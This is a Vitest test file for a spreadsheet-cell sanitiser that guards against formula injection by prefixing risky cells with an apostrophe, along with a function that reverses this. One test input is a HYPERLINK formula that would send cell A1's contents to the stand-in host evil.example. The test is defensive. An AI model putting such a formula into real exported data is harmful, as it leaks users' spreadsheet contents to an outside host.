import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from './spreadsheet.js';

describe('neutraliseCell', () => {
  it('keeps a cell that a spreadsheet would run as a formula as text', () => {
    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"Voir")', '@SUM(1+1)', '+1', '-1', '\t=1', '\r=1']) {
      expect(neutraliseCell(formula)).toBe(`'${formula}`);
    }
  });

  it('leaves ordinary text alone, a formula sign inside it included', () => {
    for (const text of ['Avis favorable.', '', ' =1', 'Total = 3', '’=1']) expect(neutraliseCell(text)).toBe(text);
  });
});

describe('restoreCell', () => {
  it('gives back what neutraliseCell protected, and leaves other apostrophes alone', () => {
    for (const value of ['=1', '-12', '@x', 'Avis', "'", "l'avis"])
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    expect(restoreCell("'apostrophe")).toBe("'apostrophe");
  });
});
